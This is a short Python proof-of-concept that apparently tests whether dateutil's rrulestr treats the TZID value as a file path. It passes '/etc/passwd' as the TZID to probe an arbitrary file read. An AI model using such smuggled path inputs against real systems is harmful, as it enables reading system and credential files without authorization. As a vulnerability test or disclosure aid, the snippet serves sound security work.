# dateutil.rrule.rrulestr opens the file that TZID names as a path.
from dateutil import rrule
try:
    rrule.rrulestr("DTSTART;TZID=/etc/passwd:20200101T000000\nRRULE:FREQ=DAILY;COUNT=1")
except ValueError as e:
    print("REACHED file opened", e)
